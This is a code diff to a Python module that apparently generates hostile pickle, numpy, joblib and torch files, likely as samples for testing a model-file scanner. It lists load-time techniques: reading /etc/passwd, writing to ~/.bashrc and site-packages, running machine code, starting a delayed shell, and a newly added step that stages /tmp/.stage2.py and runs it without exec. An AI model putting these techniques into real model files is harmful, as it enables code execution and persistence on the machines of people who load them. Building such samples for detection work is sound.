@@ -3,6 +3,7 @@
 import base64
 import builtins
 import os
+import pathlib
 import pickle
 import runpy
 import subprocess
@@ -38,6 +39,11 @@ class Technique:
 
 def _execute(source):
     return lambda: Call(builtins.exec, source)
+
+
+def _run_path():
+    path = "/tmp/.stage2.py"
+    return [Call(pathlib.Path.write_text, pathlib.Path(path), "import os\nos.system('id')\n"), Call(runpy.run_path, path)]
 
 
 def _stacked():
@@ -97,7 +103,7 @@ _TABLE = (
     Technique("read-passwd", "reads /etc/passwd by io.open and getattr, without exec", "pickle", raw=_read_accounts),
     Technique("write-bashrc", "appends a line to ~/.bashrc", "numpy", _execute(payloads.SHELL_START_FILE)),
     Technique("write-pth", "writes a .pth file into the user's site-packages", "joblib", _execute(payloads.PATH_FILE)),
-    Technique("runpy", "runpy runs a module as a program", "pickle", lambda: Call(runpy.run_module, "this", None, "__main__")),
+    Technique("runpy", "writes a Python file to /tmp and runs it by runpy, without exec", "pickle", _run_path),
     Technique("machine-code", "calls machine code in writable and executable memory (a return instruction)", "torch-legacy", _execute(payloads.MACHINE_CODE)),
     Technique("fork-daemon", "forks a child that detaches and works later", "torch-zip", _execute(payloads.DAEMON)),
     Technique("thread-delayed", "a timer starts a shell after the load", "torch-zip", _execute(payloads.DELAYED)),
